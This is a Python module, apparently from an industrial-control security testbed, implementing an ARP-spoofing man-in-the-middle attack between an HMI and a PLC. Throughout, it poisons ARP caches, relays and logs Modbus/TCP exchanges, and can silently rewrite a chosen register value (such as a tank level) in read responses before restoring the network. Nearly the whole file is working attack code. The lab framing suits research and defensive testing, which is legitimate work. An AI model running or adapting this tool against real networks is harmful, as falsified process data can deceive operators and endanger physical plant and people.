"""ARP-spoofing man in the middle between two hosts (an HMI and a PLC), with scapy.

Run inside the attacker host::

    python -m attacks.mitm --plan PLAN.json --targets 10.0.0.11,10.0.0.21 --out mitm.json \\
        [--duration-s 30] [--poison-interval-s 1] [--port 502] \\
        [--tamper level=1999] [--max-records 10000] [--max-forward-packets 200000] \\
        [--verify-s 1.5]

``--targets`` names exactly the two victims. The attack:

1. resolves both victims' MACs with one ARP request each (the real ones, not the plan's);
2. turns on ``ip_forward`` in its own namespace (with ICMP redirects off, or the kernel
   would tell the victims the shorter way) so the kernel forwards the victims' traffic;
3. poisons both ARP caches every ``--poison-interval-s`` until ``--duration-s``: to each
   victim, a unicast gratuitous-form ARP reply "the other victim is at my MAC". Linux
   ignores an ordinary reply that changes a cache entry updated less than ``locktime`` (1 s)
   ago, but always applies a gratuitous one (sender IP = target IP, sender MAC = target MAC);
   the Ethernet source is always the attacker's own MAC, so the switch's MAC learning is
   not disturbed;
4. records every Modbus/TCP request and response it relays (function, unit, address,
   count, values, request time, latency), matched by transaction id;
5. with ``--tamper REGISTER=VALUE``, rewrites the value of one register (or coil/discrete
   input) in every read response that covers it. NFQUEUE is not available here, so the
   tampered direction (the server's replies: TCP source port ``--port``) is dropped in the
   kernel's FORWARD chain and forwarded by scapy instead: it sees each reply on its packet
   socket (before netfilter), rewrites the values in place (same length, so TCP sequence
   numbers stay right), fixes the checksums, decrements the TTL as a router would and sends
   it to the real MAC. The other direction stays in the kernel;
6. restores both caches with correct gratuitous-form replies (several rounds) and verifies:
   no frame between the victims may reach the attacker's MAC during ``--verify-s`` after
   the restoration (it keeps forwarding until then, so no packet is lost);
7. undoes its host changes (FORWARD rules, ``ip_forward``, ``send_redirects``) and checks
   the host against a snapshot taken first. All of 6 and 7 also run on SIGTERM/SIGINT.

What it cannot do: tamper a response split over several TCP segments (counted as
``skipped_segmented``), change a value's length, or verify the restoration when the victims
do not talk to each other during ``--verify-s`` (no traffic looks like restored traffic).
"""

from __future__ import annotations

import argparse
import logging
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from typing import Any

from common.cli import int_in, positive_float
from common.errors import UserError
from common.hostenv import AttackContext, AttackOutcome, attack_parser, run_attack, utc_now_iso
from common.netstate import IP_FORWARD, HostChanges, LocalInterface, local_interface
from common.plan import AddressPlan
from plc.mbap import FramingError, split_frames
from plc.registers import MAPS, Table

log = logging.getLogger(__name__)

MODBUS_PORT = 502
DEFAULT_DURATION_S = 30.0
DEFAULT_POISON_INTERVAL_S = 1.0
MIN_POISON_INTERVAL_S = 0.1
MAX_DURATION_S = 3600.0
DEFAULT_MAX_RECORDS = 10000
DEFAULT_MAX_FORWARD_PACKETS = 200000
DEFAULT_VERIFY_S = 1.5
RESOLVE_TIMEOUT_S = 1.0
RESOLVE_TRIES = 3
RESTORE_ROUNDS = 3
RESTORE_REPEATS = 3
RESTORE_GAP_S = 0.2
RESTORE_SETTLE_S = 0.3
MAX_PENDING_REQUESTS = 4096

FUNCTION_NAMES = {
    1: "read_coils", 2: "read_discrete_inputs", 3: "read_holding_registers",
    4: "read_input_registers", 5: "write_coil", 6: "write_register", 15: "write_coils",
    16: "write_registers", 17: "report_server_id",
}
READ_TABLE_BY_FUNCTION = {1: Table.COIL, 2: Table.DISCRETE_INPUT, 3: Table.HOLDING_REGISTER,
                          4: Table.INPUT_REGISTER}
TABLE_ALIASES = {
    "coil": Table.COIL, "co": Table.COIL, "c": Table.COIL,
    "discrete_input": Table.DISCRETE_INPUT, "di": Table.DISCRETE_INPUT,
    "input_register": Table.INPUT_REGISTER, "ir": Table.INPUT_REGISTER,
    "holding_register": Table.HOLDING_REGISTER, "hr": Table.HOLDING_REGISTER,
}


# --- pure: tamper specification ---------------------------------------------------------
@dataclass(frozen=True)
class TamperSpec:
    """Which value to falsify in read responses: ``table[address] := value`` (raw).

    label: what the user typed before ``=`` (``level``, ``tank.level``, ``ir:2``).
    """

    label: str
    table: Table
    address: int
    value: int


def parse_tamper(text: str) -> TamperSpec:
    """``REGISTER=VALUE`` -> TamperSpec; UserError with a one-line reason otherwise.

    REGISTER: a register name from the PLC register maps (``level``), ``PROCESS.NAME`` when
    the name is ambiguous (``pressure.auto_mode``), or ``TABLE:ADDRESS`` with TABLE one of
    coil/co, discrete_input/di, input_register/ir, holding_register/hr (``ir:2``).
    VALUE: the raw value, 0..65535 for registers, 0 or 1 for bits (``level=1999`` shows
    199.9 cm, since the level's resolution is 0.1 cm).
    """
    label, sep, value_text = text.partition("=")
    label, value_text = label.strip(), value_text.strip()
    if not sep or not label or not value_text:
        raise UserError(f"--tamper {text!r}: expected REGISTER=VALUE")
    try:
        value = int(value_text, 0)
    except ValueError:
        raise UserError(f"--tamper {text!r}: value {value_text!r} is not an integer") from None
    if ":" in label:
        table_text, _, address_text = label.partition(":")
        table = TABLE_ALIASES.get(table_text.lower())
        if table is None:
            raise UserError(f"--tamper {text!r}: unknown table {table_text!r} (choose from "
                             "coil, discrete_input, input_register, holding_register)")
        if not address_text.isdigit() or not 0 <= int(address_text) <= 0xFFFF:
            raise UserError(f"--tamper {text!r}: address must be 0..65535")
        address = int(address_text)
    else:
        table, address = _resolve_register_name(text, label)
    high = 1 if table.is_bit else 0xFFFF
    if not 0 <= value <= high:
        raise UserError(f"--tamper {text!r}: value must be 0..{high} for a {table}")
    return TamperSpec(label=label, table=table, address=address, value=value)


def _resolve_register_name(text: str, label: str) -> tuple[Table, int]:
    process, dot, name = label.rpartition(".")
    maps = list(MAPS.values())
    if dot:
        if process not in MAPS:
            raise UserError(f"--tamper {text!r}: unknown process {process!r} (choose from "
                             f"{', '.join(MAPS)})")
        maps = [MAPS[process]]
    found = {(r.table, r.address) for m in maps for r in m.registers if r.name == name}
    if not found:
        raise UserError(f"--tamper {text!r}: no register named {name!r} (see "
                         "docs/registers.md, or use TABLE:ADDRESS)")
    if len(found) > 1:
        owners = [f"{m.process}.{name}" for m in maps if any(r.name == name
                                                             for r in m.registers)]
        raise UserError(f"--tamper {text!r}: {name!r} is ambiguous; use one of "
                         f"{', '.join(owners)}")
    return found.pop()


# --- pure: Modbus PDUs ------------------------------------------------------------------
@dataclass(frozen=True)
class ModbusRequest:
    """A parsed request PDU; ``address``/``count`` are None for functions without them.

    values: the values a write request carries (raw; bits as 0/1).
    """

    function: int
    address: int | None = None
    count: int | None = None
    values: tuple[int, ...] = ()


@dataclass(frozen=True)
class ModbusResponse:
    """A parsed response PDU: read values, a write's echo, or an exception code."""

    function: int
    values: tuple[int, ...] = ()
    exception_code: int | None = None


def _bits(data: bytes, count: int) -> tuple[int, ...]:
    """Modbus bit packing: LSB of the first byte is the first bit."""
    return tuple((data[i // 8] >> (i % 8)) & 1 for i in range(min(count, len(data) * 8)))


def parse_request(pdu: bytes) -> ModbusRequest:
    """Parse a request PDU (function code first); unknown or short PDUs keep only the code."""
    if not pdu:
        raise ValueError("empty PDU")
    fc = pdu[0]
    body = pdu[1:]
    try:
        if fc in (1, 2, 3, 4):
            address, count = struct.unpack_from(">HH", body)
            return ModbusRequest(fc, address, count)
        if fc == 5:
            address, raw = struct.unpack_from(">HH", body)
            return ModbusRequest(fc, address, 1, (1 if raw == 0xFF00 else 0,))
        if fc == 6:
            address, raw = struct.unpack_from(">HH", body)
            return ModbusRequest(fc, address, 1, (raw,))
        if fc == 15:
            address, count, n_bytes = struct.unpack_from(">HHB", body)
            return ModbusRequest(fc, address, count, _bits(body[5:5 + n_bytes], count))
        if fc == 16:
            address, count, n_bytes = struct.unpack_from(">HHB", body)
            data = body[5:5 + n_bytes]
            regs = struct.unpack_from(f">{len(data) // 2}H", data)
            return ModbusRequest(fc, address, count, tuple(regs[:count]))
    except struct.error:
        pass
    return ModbusRequest(fc)


def parse_response(pdu: bytes, request: ModbusRequest | None) -> ModbusResponse:
    """Parse a response PDU; bit reads are cut to the request's count when it is known."""
    if not pdu:
        raise ValueError("empty PDU")
    fc = pdu[0]
    if fc & 0x80:
        return ModbusResponse(fc & 0x7F, exception_code=pdu[1] if len(pdu) > 1 else None)
    body = pdu[1:]
    try:
        if fc in (1, 2) and body:
            data = body[1:1 + body[0]]
            count = request.count if request is not None and request.count else len(data) * 8
            return ModbusResponse(fc, _bits(data, count))
        if fc in (3, 4) and body:
            data = body[1:1 + body[0]]
            return ModbusResponse(fc, tuple(struct.unpack_from(f">{len(data) // 2}H", data)))
        if fc == 5:
            _address, raw = struct.unpack_from(">HH", body)
            return ModbusResponse(fc, (1 if raw == 0xFF00 else 0,))
        if fc == 6:
            _address, raw = struct.unpack_from(">HH", body)
            return ModbusResponse(fc, (raw,))
    except struct.error:
        pass
    return ModbusResponse(fc)


def tamper_pdu(pdu: bytes, request: ModbusRequest, spec: TamperSpec) -> bytes | None:
    """The response PDU with ``spec``'s value put in, or None when it does not cover it.

    Only successful reads of ``spec.table`` whose requested range includes ``spec.address``
    are rewritten; the length never changes.
    """
    if not pdu or pdu[0] & 0x80 or READ_TABLE_BY_FUNCTION.get(pdu[0]) is not spec.table:
        return None
    if request.function != pdu[0] or request.address is None or request.count is None:
        return None
    index = spec.address - request.address
    if not 0 <= index < request.count or len(pdu) < 2:
        return None
    data = bytearray(pdu)
    n_bytes = data[1]
    if spec.table.is_bit:
        byte_at = 2 + index // 8
        if index // 8 >= n_bytes or byte_at >= len(data):
            return None
        mask = 1 << (index % 8)
        data[byte_at] = (data[byte_at] | mask) if spec.value else (data[byte_at] & ~mask)
    else:
        at = 2 + 2 * index
        if 2 * index + 2 > n_bytes or at + 2 > len(data):
            return None
        struct.pack_into(">H", data, at, spec.value)
    return bytes(data)


# --- pure: following Modbus/TCP conversations --------------------------------------------
@dataclass
class ModbusExchange:
    """One request and its response as the attacker relayed them.

    t_s: when the request passed (seconds from the attack's start); latency_ms: until the
        response passed, None when none was seen.
    client, server: ``ip:port``.
    values: what the request carried (writes) or the server answered (reads), raw; for a
        tampered response, the true values, with ``tampered_values`` what was forwarded.
    """

    t_s: float
    client: str
    server: str
    transaction_id: int
    unit_id: int
    function: int
    function_name: str
    address: int | None
    count: int | None
    values: list[int] = field(default_factory=list)
    exception_code: int | None = None
    latency_ms: float | None = None
    tampered_values: list[int] | None = None


@dataclass
class _Pending:
    t_s: float
    unit_id: int
    request: ModbusRequest


class ModbusTracker:
    """Turns TCP payloads of Modbus/TCP flows into :class:`ModbusExchange` records.

    Payloads are fed in the order seen, per direction; partial frames are buffered per flow;
    a flow that breaks Modbus framing is dropped from the buffers (no resynchronisation).
    Requests still unanswered when more than MAX_PENDING_REQUESTS wait are forgotten.
    """

    def __init__(self, server_port: int = MODBUS_PORT) -> None:
        self.server_port = server_port
        self._buffers: dict[tuple[str, int, str, int], bytes] = {}
        self._pending: dict[tuple[str, int, int], _Pending] = {}
        self.framing_errors = 0
        self.unmatched_responses = 0

    def pending_request(self, client_ip: str, client_port: int, transaction_id: int
                        ) -> ModbusRequest | None:
        """The request a response with this transaction id answers, if seen."""
        found = self._pending.get((client_ip, client_port, transaction_id))
        return found.request if found else None

    def feed(self, t_s: float, src: str, sport: int, dst: str, dport: int, payload: bytes,
             tampered: dict[int, list[int]] | None = None) -> list[ModbusExchange]:
        """Feed one segment's payload; returns the exchanges its responses complete.

        tampered: transaction id -> the values forwarded instead of the true ones.
        """
        if not payload or self.server_port not in (sport, dport):
            return []
        flow = (src, sport, dst, dport)
        buffer = self._buffers.pop(flow, b"") + payload
        try:
            frames, rest = split_frames(buffer)
        except FramingError:
            self.framing_errors += 1
            return []
        if rest:
            self._buffers[flow] = rest
        done: list[ModbusExchange] = []
        to_server = dport == self.server_port
        for frame in frames:
            if to_server:
                if len(self._pending) >= MAX_PENDING_REQUESTS:
                    self._pending.pop(next(iter(self._pending)))
                try:
                    request = parse_request(frame.pdu)
                except ValueError:
                    continue
                self._pending[(src, sport, frame.transaction_id)] = _Pending(
                    t_s, frame.unit_id, request)
                continue
            pending = self._pending.pop((dst, dport, frame.transaction_id), None)
            if pending is None:
                self.unmatched_responses += 1
                continue
            response = parse_response(frame.pdu, pending.request)
            req = pending.request
            values = list(req.values) if req.function in (5, 6, 15, 16) else \
                list(response.values)
            done.append(ModbusExchange(
                t_s=round(pending.t_s, 6), client=f"{dst}:{dport}", server=f"{src}:{sport}",
                transaction_id=frame.transaction_id, unit_id=pending.unit_id,
                function=req.function,
                function_name=FUNCTION_NAMES.get(req.function, f"function_{req.function}"),
                address=req.address, count=req.count, values=values,
                exception_code=response.exception_code,
                latency_ms=round((t_s - pending.t_s) * 1000.0, 3),
                tampered_values=(tampered or {}).get(frame.transaction_id)))
        return done

    def unanswered(self) -> int:
        return len(self._pending)


def rewrite_response_payload(payload: bytes, client_ip: str, client_port: int,
                             tracker: ModbusTracker, spec: TamperSpec
                             ) -> tuple[bytes, dict[int, list[int]], bool]:
    """Tamper every response ADU in one segment's payload.

    Returns (payload to forward, transaction id -> forwarded values, segmented) where
    segmented is True when the payload is not whole ADUs (then it is returned unchanged).
    Must run before the payload is fed to ``tracker``, which forgets answered requests.
    """
    try:
        frames, rest = split_frames(payload)
    except FramingError:
        return payload, {}, False
    if rest or not frames:
        return payload, {}, bool(payload)
    out = bytearray()
    changed: dict[int, list[int]] = {}
    for frame in frames:
        pdu = frame.pdu
        request = tracker.pending_request(client_ip, client_port, frame.transaction_id)
        if request is not None:
            new_pdu = tamper_pdu(pdu, request, spec)
            if new_pdu is not None and new_pdu != pdu:
                pdu = new_pdu
                changed[frame.transaction_id] = list(parse_response(pdu, request).values)
            elif new_pdu is not None:
                changed[frame.transaction_id] = list(parse_response(pdu, request).values)
        out += struct.pack(">HHHB", frame.transaction_id, 0, len(pdu) + 1, frame.unit_id) + pdu
    return bytes(out), changed, False


# --- outcome ----------------------------------------------------------------------------
@dataclass(kw_only=True)
class MitmOutcome(AttackOutcome):
    """The mitm outcome: :class:`AttackOutcome` plus what was intercepted and restored.

    victims: [{name, ip, mac (resolved on the wire), plan_mac}].
    intercepted_frames: frames between the victims that reached the attacker, per direction
        (``A->B``); first_intercept_s: when the first one did (seconds from the start).
    exchanges: the first ``--max-records`` Modbus exchanges; exchange_count: all of them.
    tamper: the spec and its counts (responses_rewritten, skipped_segmented) or None.
    restore: {verified, rounds, arp_sent, frames_after_restore}.
    host_restored: the attacker host's iptables, sysctls and addresses are as before.
    """

    attacker: dict[str, str] = field(default_factory=dict)
    victims: list[dict[str, str]] = field(default_factory=list)
    forwarding: str = "kernel"
    arp_poison_sent: int = 0
    poison_rounds: int = 0
    first_intercept_s: float | None = None
    intercepted_frames: dict[str, int] = field(default_factory=dict)
    forwarded_by_scapy: int = 0
    exchanges: list[ModbusExchange] = field(default_factory=list)
    exchange_count: int = 0
    functions: dict[str, int] = field(default_factory=dict)
    unanswered_requests: int = 0
    tamper: dict[str, Any] | None = None
    restore: dict[str, Any] = field(default_factory=dict)
    host_changes: list[str] = field(default_factory=list)
    host_restored: bool | None = None
    host_differences: list[str] = field(default_factory=list)
    relay_errors: int = 0


# --- I/O --------------------------------------------------------------------------------
@dataclass(frozen=True)
class Victim:
    """A victim's address, its MAC as seen on the wire, and what the plan says."""

    name: str
    ip: str
    mac: str
    plan_mac: str


def resolve_mac(iface: LocalInterface, ip: str) -> str | None:
    """One ARP who-has per try (at most RESOLVE_TRIES) to ``ip``; the MAC that answered."""
    from scapy.layers.l2 import ARP, Ether
    from scapy.sendrecv import srp

    for _ in range(RESOLVE_TRIES):
        answered, _unanswered = srp(
            Ether(src=iface.mac, dst="ff:ff:ff:ff:ff:ff") /
            ARP(op=1, hwsrc=iface.mac, psrc=iface.ip, pdst=ip),
            iface=iface.name, timeout=RESOLVE_TIMEOUT_S, verbose=False)
        for _sent, reply in answered:
            if reply.haslayer(ARP) and reply[ARP].op == 2 and reply[ARP].psrc == ip:
                return str(reply[ARP].hwsrc)
    return None


def claim_frame(iface: LocalInterface, to: Victim, about_ip: str, about_mac: str) -> Any:
    """A unicast gratuitous-form ARP reply telling ``to`` that ``about_ip`` is at ``about_mac``.

    Sender IP = target IP and sender MAC = target MAC make Linux treat it as gratuitous and
    apply it even within the neighbour ``locktime``; the Ethernet source stays our own MAC.
    """
    from scapy.layers.l2 import ARP, Ether

    return (Ether(src=iface.mac, dst=to.mac) /
            ARP(op=2, hwsrc=about_mac, psrc=about_ip, hwdst=about_mac, pdst=about_ip))


class Relay:
    """The sniffer thread: records Modbus, forwards (and tampers) the scapy-forwarded side."""

    def __init__(self, iface: LocalInterface, a: Victim, b: Victim, port: int,
                 tamper: TamperSpec | None, max_records: int, max_forward_packets: int,
                 clock: Callable[[], float], outcome: MitmOutcome) -> None:
        self.iface = iface
        self.by_ip = {a.ip: a, b.ip: b}
        self.port = port
        self.tamper = tamper
        self.tamper_active = tamper is not None
        self.max_records = max_records
        self.max_forward_packets = max_forward_packets
        self.clock = clock
        self.outcome = outcome
        self.tracker = ModbusTracker(port)
        self.victim_frames = 0
        self.limit_reached = threading.Event()
        self._functions: Counter[str] = Counter()
        self._lock = threading.Lock()
        self._socket: Any = None
        self._sniffer: Any = None
        self.rewritten = 0
        self.skipped_segmented = 0

    def start(self) -> None:
        from scapy.config import conf
        from scapy.sendrecv import AsyncSniffer

        a, b = list(self.by_ip)
        self._socket = conf.L2socket(iface=self.iface.name)
        started = threading.Event()
        self._sniffer = AsyncSniffer(
            iface=self.iface.name, store=False, prn=self._on_frame,
            filter=f"ip and host {a} and host {b}", started_callback=started.set)
        self._sniffer.start()
        if not started.wait(10):
            raise RuntimeError("the sniffer did not start within 10 s")

    def stop(self) -> None:
        if self._sniffer is not None:
            try:
                self._sniffer.stop(join=True)
            except Exception as exc:  # a sniffer that died already: nothing to stop
                log.warning("stopping the sniffer: %s", exc)
            self._sniffer = None
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def _on_frame(self, pkt: Any) -> None:
        try:
            self._handle(pkt)
        except Exception:  # keep relaying: one odd frame must not stop the forwarder
            self.outcome.relay_errors += 1
            log.exception("relay: frame dropped")

    def _handle(self, pkt: Any) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether
        from scapy.packet import Raw

        if not pkt.haslayer(Ether) or not pkt.haslayer(IP):
            return
        eth, ip = pkt[Ether], pkt[IP]
        if eth.src.lower() == self.iface.mac or eth.dst.lower() != self.iface.mac:
            return  # our own transmissions, or frames not steered to us
        src, dst = self.by_ip.get(ip.src), self.by_ip.get(ip.dst)
        if src is None or dst is None or src is dst:
            return
        now_s = self.clock()
        with self._lock:
            self.victim_frames += 1
            key = f"{src.name}->{dst.name}"
            self.outcome.intercepted_frames[key] = self.outcome.intercepted_frames.get(key, 0) + 1
            if self.outcome.first_intercept_s is None:
                self.outcome.first_intercept_s = round(now_s, 6)
        if not pkt.haslayer(TCP):
            return
        tcp = pkt[TCP]
        payload = bytes(pkt[Raw].load) if pkt.haslayer(Raw) else b""
        tampered: dict[int, list[int]] = {}
        if self.tamper is not None and tcp.sport == self.port:
            # This direction is dropped in FORWARD: scapy must forward every segment of it.
            new_payload = payload
            if self.tamper_active and payload:
                new_payload, tampered, segmented = rewrite_response_payload(
                    payload, ip.dst, tcp.dport, self.tracker, self.tamper)
                self.skipped_segmented += int(segmented)
                if new_payload != payload:
                    self.rewritten += 1
            self._forward(pkt, dst, new_payload if new_payload != payload else None)
        exchanges = self.tracker.feed(now_s, ip.src, tcp.sport, ip.dst, tcp.dport, payload,
                                      tampered)
        for exchange in exchanges:
            self._functions[exchange.function_name] += 1
            self.outcome.exchange_count += 1
            if len(self.outcome.exchanges) < self.max_records:
                self.outcome.exchanges.append(exchange)
        if exchanges:
            self.outcome.functions = dict(self._functions)

    def _forward(self, pkt: Any, to: Victim, new_payload: bytes | None) -> None:
        from scapy.layers.inet import IP, TCP
        from scapy.layers.l2 import Ether
        from scapy.packet import Raw

        if self.outcome.forwarded_by_scapy >= self.max_forward_packets:
            self.limit_reached.set()
            return
        ip = pkt[IP].copy()
        if ip.ttl <= 1:
            return  # a router drops it too
        ip.ttl -= 1
        del ip.chksum
        if new_payload is not None:
            tcp = ip[TCP]
            tcp.remove_payload()
            tcp.add_payload(Raw(new_payload))
            del tcp.chksum
        self._socket.send(Ether(src=self.iface.mac, dst=to.mac) / ip)
        self.outcome.forwarded_by_scapy += 1


class Mitm:
    """One run: poison, relay, restore, verify; owns the L2 socket used for ARP."""

    def __init__(self, ctx: AttackContext, iface: LocalInterface, a: Victim, b: Victim,
                 relay: Relay) -> None:
        self.ctx = ctx
        self.iface = iface
        self.a, self.b = a, b
        self.relay = relay
        self.outcome = ctx.outcome
        assert isinstance(self.outcome, MitmOutcome)
        self._socket: Any = None

    def open(self) -> None:
        from scapy.config import conf

        self._socket = conf.L2socket(iface=self.iface.name)

    def close(self) -> None:
        if self._socket is not None:
            self._socket.close()
            self._socket = None

    def poison_once(self) -> None:
        """Tell each victim that the other one is at our MAC (two frames)."""
        self._socket.send(claim_frame(self.iface, self.a, self.b.ip, self.iface.mac))
        self._socket.send(claim_frame(self.iface, self.b, self.a.ip, self.iface.mac))
        self.outcome.arp_poison_sent += 2
        self.outcome.poison_rounds += 1

    def poison_loop(self, duration_s: float, interval_s: float) -> None:
        """Poison every ``interval_s`` until ``duration_s`` from the start (or a limit)."""
        next_s = self.ctx.elapsed_s()
        while self.ctx.elapsed_s() < duration_s and not self.relay.limit_reached.is_set():
            now_s = self.ctx.elapsed_s()
            if now_s >= next_s:
                self.poison_once()
                next_s = now_s + interval_s
            time.sleep(max(0.0, min(next_s, duration_s) - self.ctx.elapsed_s()))
        if self.relay.limit_reached.is_set():
            self.outcome.errors.append(
                f"--max-forward-packets {self.relay.max_forward_packets} reached: stopped early")

    def restore(self, verify_s: float) -> dict[str, Any]:
        """Send the true mappings until no victim frame reaches us for ``verify_s``."""
        self.relay.tamper_active = False
        report: dict[str, Any] = {"verified": False, "rounds": 0, "arp_sent": 0,
                                  "frames_after_restore": None}
        for round_no in range(1, RESTORE_ROUNDS + 1):
            report["rounds"] = round_no
            for _ in range(RESTORE_REPEATS):
                self._socket.send(claim_frame(self.iface, self.a, self.b.ip, self.b.mac))
                self._socket.send(claim_frame(self.iface, self.b, self.a.ip, self.a.mac))
                report["arp_sent"] += 2
                time.sleep(RESTORE_GAP_S)
            time.sleep(RESTORE_SETTLE_S)
            before = self.relay.victim_frames
            time.sleep(verify_s)
            report["frames_after_restore"] = self.relay.victim_frames - before
            if report["frames_after_restore"] == 0:
                report["verified"] = True
                break
            log.warning("restore round %d: %d victim frame(s) still reached us", round_no,
                        report["frames_after_restore"])
        log.info("ARP caches restored: verified=%s after %d round(s)", report["verified"],
                 report["rounds"])
        return report


def _victims(ctx: AttackContext, iface: LocalInterface) -> tuple[Victim, Victim]:
    victims = []
    for ip in ctx.targets:
        spec = ctx.plan.by_ip(ip)
        mac = resolve_mac(iface, ip)
        if mac is None:
            raise RuntimeError(f"victim {ip} did not answer ARP: is it up?")
        plan_mac = spec.mac if spec else ""
        if plan_mac and plan_mac.lower() != mac.lower():
            log.warning("victim %s answers with %s, the plan says %s", ip, mac, plan_mac)
        victims.append(Victim(spec.name if spec else ip, ip, mac.lower(), plan_mac))
    return victims[0], victims[1]


def _body(ctx: AttackContext) -> None:
    args = ctx.args
    outcome = ctx.outcome
    assert isinstance(outcome, MitmOutcome)
    iface = local_interface(ctx.plan.network)
    outcome.attacker = {"interface": iface.name, "ip": iface.ip, "mac": iface.mac}
    if iface.ip in ctx.targets:
        raise UserError(f"--targets: {iface.ip} is this host's own address")
    a, b = _victims(ctx, iface)
    outcome.victims = [asdict(v) for v in (a, b)]
    spec = parse_tamper(args.tamper) if args.tamper else None
    if spec is not None:
        outcome.forwarding = "kernel; scapy for TCP from port " \
                             f"{args.port} (tampered direction)"
        outcome.tamper = {**asdict(spec), "responses_rewritten": 0, "skipped_segmented": 0}
    sysctls = (IP_FORWARD, "net/ipv4/conf/all/send_redirects",
               f"net/ipv4/conf/{iface.name}/send_redirects")
    changes = HostChanges(sysctls)
    relay = Relay(iface, a, b, args.port, spec, args.max_records, args.max_forward_packets,
                  ctx.elapsed_s, outcome)
    mitm = Mitm(ctx, iface, a, b, relay)
    poisoned = False
    try:
        changes.set_sysctl("net/ipv4/conf/all/send_redirects", "0")
        changes.set_sysctl(f"net/ipv4/conf/{iface.name}/send_redirects", "0")
        if spec is not None:
            for x, y in ((a, b), (b, a)):
                changes.iptables_insert("filter", "FORWARD", [
                    "-s", f"{x.ip}/32", "-d", f"{y.ip}/32", "-p", "tcp", "--sport",
                    str(args.port), "-j", "DROP"])
        changes.set_sysctl(IP_FORWARD, "1")
        relay.start()
        mitm.open()
        poisoned = True
        log.info("poisoning %s <-> %s every %g s for %g s", a.ip, b.ip, args.poison_interval_s,
                 args.duration_s)
        mitm.poison_loop(args.duration_s, args.poison_interval_s)
    finally:
        try:
            if poisoned:
                outcome.restore = mitm.restore(args.verify_s)
        finally:
            mitm.close()
            relay.stop()
            outcome.unanswered_requests = relay.tracker.unanswered()
            if outcome.tamper is not None:
                outcome.tamper["responses_rewritten"] = relay.rewritten
                outcome.tamper["skipped_segmented"] = relay.skipped_segmented
            outcome.host_changes = changes.descriptions
            differences = changes.restore()
            outcome.host_restored = changes.restored
            outcome.host_differences = differences + changes.errors
    log.info("mitm: %d Modbus exchange(s) relayed, restore verified: %s, host restored: %s",
             outcome.exchange_count, outcome.restore.get("verified"), outcome.host_restored)
    if outcome.host_differences:
        raise RuntimeError("the host's network state differs from before the run: "
                           + "; ".join(outcome.host_differences))
    if poisoned and not outcome.restore.get("verified"):
        raise RuntimeError("the victims' ARP caches could not be verified as restored")


# --- CLI --------------------------------------------------------------------------------
def _tamper_arg(text: str) -> str:
    """argparse type: a valid ``--tamper`` text, kept as text (the outcome records it)."""
    try:
        parse_tamper(text)
        return text
    except UserError as exc:
        raise argparse.ArgumentTypeError(str(exc).removeprefix("--tamper ")) from None


def build_parser() -> argparse.ArgumentParser:
    """The mitm command line (see the module docstring)."""
    parser = attack_parser("attacks.mitm",
                           "ARP-spoofing man in the middle between two hosts (HMI and PLC).")
    parser.add_argument("--duration-s", type=positive_float, default=DEFAULT_DURATION_S,
                        help=f"how long to poison (at most {MAX_DURATION_S:g})")
    parser.add_argument("--poison-interval-s", type=positive_float,
                        default=DEFAULT_POISON_INTERVAL_S,
                        help=f"seconds between poison rounds (at least {MIN_POISON_INTERVAL_S:g})")
    parser.add_argument("--port", type=int_in(1, 65535), default=MODBUS_PORT,
                        help="the Modbus/TCP server port (default 502)")
    parser.add_argument("--tamper", type=_tamper_arg, default=None, metavar="REGISTER=VALUE",
                        help="falsify one value in read responses: NAME, PROCESS.NAME or "
                             "TABLE:ADDRESS = raw value (e.g. level=1999)")
    parser.add_argument("--max-records", type=int_in(0, 10**6), default=DEFAULT_MAX_RECORDS,
                        help="exchanges kept in the outcome (all are counted)")
    parser.add_argument("--max-forward-packets", type=int_in(1, 10**7),
                        default=DEFAULT_MAX_FORWARD_PACKETS,
                        help="packets scapy may forward in tamper mode; the run ends there")
    parser.add_argument("--verify-s", type=positive_float, default=DEFAULT_VERIFY_S,
                        help="quiet time that proves the caches are restored")
    return parser


def _validate(args: argparse.Namespace) -> None:
    if args.duration_s > MAX_DURATION_S:
        raise UserError(f"--duration-s: at most {MAX_DURATION_S:g}")
    if args.poison_interval_s < MIN_POISON_INTERVAL_S:
        raise UserError(f"--poison-interval-s: at least {MIN_POISON_INTERVAL_S:g}")
    if args.verify_s > 30:
        raise UserError("--verify-s: at most 30")
    items = [t.strip() for t in args.targets.split(",")]
    if len(items) != 2 or "/" in args.targets or items[0] == items[1]:
        raise UserError("--targets: exactly two different addresses (the two victims)")
    attacker = AddressPlan.load(args.plan).attacker  # run_attack has validated the plan
    if attacker is not None and attacker.ip in items:
        raise UserError(f"--targets: {attacker.ip} is the attacker itself")


def _new_outcome(args: argparse.Namespace, targets: tuple[str, ...]) -> MitmOutcome:
    return MitmOutcome(attack="mitm", parameters={}, targets=list(targets),
                       started_at=utc_now_iso())


def main(argv: Sequence[str] | None = None) -> int:
    """Run the MITM; returns the exit status (0 ok, 1 failed, 2 refused, 128+N signal N)."""
    return run_attack(parser=build_parser(), argv=argv, new_outcome=_new_outcome, body=_body,
                      validate=_validate)


if __name__ == "__main__":
    raise SystemExit(main())
